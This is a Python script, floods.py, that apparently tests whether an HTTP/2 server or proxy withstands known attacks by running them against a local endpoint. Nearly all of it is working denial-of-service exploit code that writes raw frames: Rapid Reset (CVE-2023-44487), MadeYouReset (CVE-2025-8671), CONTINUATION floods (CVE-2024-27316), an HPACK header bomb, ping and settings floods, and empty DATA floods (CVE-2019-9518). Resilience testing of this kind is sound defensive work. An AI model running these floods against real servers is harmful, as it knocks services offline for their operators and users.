"""A client of HTTP/2 that means harm: frames written byte by byte.

floods.py CASE HOST PORT CA     floods until it is cut off or has no more, and prints how that ended:
                                "cut N" with the number of streams opened, or "served N"
"""
import select
import socket
import ssl
import sys

import hpack

case, host, port, ca = sys.argv[1:]
ROUNDS = 3000
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4

context = ssl.create_default_context(cafile=ca)
context.set_alpn_protocols(["h2"])
plain = socket.create_connection(("127.0.0.1", int(port)))
plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
stream = context.wrap_socket(plain, server_hostname=host)
stream.settimeout(60)
encoder = hpack.Encoder()
heard = b""
opened = 0


class Cut(Exception):
    """The server has had enough."""


def frame(kind, flags, stream_id, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + payload


def head(path="/wait", more=(), method="GET"):
    pseudo = [(":method", method), (":scheme", "https"), (":authority", host), (":path", path)]
    return encoder.encode(pseudo + list(more))


def write(data):
    """Writes, and reads what has come meanwhile, so that neither side is stuck."""
    try:
        stream.sendall(data)
        while stream.pending() or select.select([stream], [], [], 0)[0]:
            listen()
    except (ConnectionError, ssl.SSLError):
        raise Cut from None


def listen():
    global heard
    received = stream.recv(65536)
    if not received:
        raise Cut
    heard += received
    while len(heard) >= 9:
        size = int.from_bytes(heard[:3], "big")
        if len(heard) < 9 + size:
            return
        kind, flags, payload = heard[3], heard[4], heard[9:9 + size]
        heard = heard[9 + size:]
        if kind == GOAWAY:
            raise Cut
        if kind == SETTINGS and not flags & ACK:
            write(frame(SETTINGS, ACK, 0))
        if kind == PING and flags & ACK:
            pongs.append(payload)


pongs = []


def is_heard():
    """Waits until the server has read all that was written."""
    before = len(pongs)
    write(frame(PING, 0, 0, b"is heard"))
    try:
        while len(pongs) == before:
            listen()
    except (ConnectionError, ssl.SSLError):
        raise Cut from None


def fresh(path="/wait", flags=END_STREAM | END_HEADERS, method="GET"):
    """A request on a stream of its own."""
    global opened
    opened += 1
    stream_id = 2 * opened - 1
    return stream_id, frame(HEADERS, flags, stream_id, head(path, method=method))


def rapid_reset():
    """CVE-2023-44487: asked and taken back in one breath."""
    for _ in range(ROUNDS):
        stream_id, ask = fresh()
        write(ask + frame(RST, 0, stream_id, (8).to_bytes(4, "big")))


def paced_reset():
    """The same, once each request has been looked at."""
    for _ in range(ROUNDS):
        stream_id, ask = fresh()
        write(ask)
        is_heard()
        write(frame(RST, 0, stream_id, (8).to_bytes(4, "big")))


def made_reset(fault):
    """CVE-2025-8671: the server is made to reset what it has begun to answer."""
    for _ in range(ROUNDS):
        stream_id, ask = fresh()
        write(ask + fault(stream_id))


def continuation():
    """CVE-2024-27316: a head that never ends."""
    _, ask = fresh(flags=END_STREAM)
    write(ask)
    for number in range(ROUNDS * 10):
        field = b"\x00\x06x-%04d\x7f\x81\x1e" % (number % 10000) + b"y" * 285
        write(frame(CONTINUATION, 0, 1, field))


def empty_continuation():
    _, ask = fresh(flags=END_STREAM)
    write(ask)
    for _ in range(ROUNDS * 10):
        write(frame(CONTINUATION, 0, 1))


def bomb():
    """A large field, said once and pointed at over and over."""
    for _ in range(20):
        large = head("/status/204", [("x-large", "y" * 3000)])
        repeated = encoder.encode([("x-large", "y" * 3000)]) * 12000
        global opened
        opened += 1
        write(frame(HEADERS, END_STREAM | END_HEADERS, 2 * opened - 1, large + repeated))
        is_heard()


def silent(kind, payload, flags=0):
    """Frames that want an answer, by somebody who does not read: what is kept of these, the proxy's memory tells."""
    many = frame(kind, flags, 0, payload) * 100
    stream.settimeout(2)
    try:
        for _ in range(ROUNDS * 3):
            stream.sendall(many)
    except (TimeoutError, ConnectionError, ssl.SSLError):
        pass  # It waits until its answers are read, or has had enough.
    raise Cut


def empty_data():
    """CVE-2019-9518: a body of nothing, in many pieces."""
    stream_id, ask = fresh("/echo", END_HEADERS, "POST")
    write(ask)
    for _ in range(ROUNDS):
        write(frame(DATA, 0, stream_id) * 20)


def number(value):
    return value.to_bytes(4, "big")


cases = {
    "rapid_reset": rapid_reset,
    "paced_reset": paced_reset,
    "window_of_nothing": lambda: made_reset(lambda one: frame(WINDOW, 0, one, number(0))),
    "window_too_large": lambda: made_reset(lambda one: frame(WINDOW, 0, one, number(2**31 - 1))),
    "data_after_end": lambda: made_reset(lambda one: frame(DATA, 0, one, b"x")),
    "head_after_end": lambda: made_reset(
        lambda one: frame(HEADERS, END_STREAM | END_HEADERS, one, encoder.encode([("x", "y")]))),
    "priority_of_no_length": lambda: made_reset(lambda one: frame(PRIORITY, 0, one, b"x")),
    "depends_on_itself": lambda: made_reset(lambda one: frame(PRIORITY, 0, one, number(one) + b"\x00")),
    "continuation": continuation,
    "empty_continuation": empty_continuation,
    "bomb": bomb,
    "pings": lambda: silent(PING, b"12345678"),
    "settings": lambda: silent(SETTINGS, b""),
    "empty_data": empty_data,
}
try:
    write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    cases[case]()
    is_heard()
    print(f"served {opened}")
except Cut:
    print(f"cut {opened}")
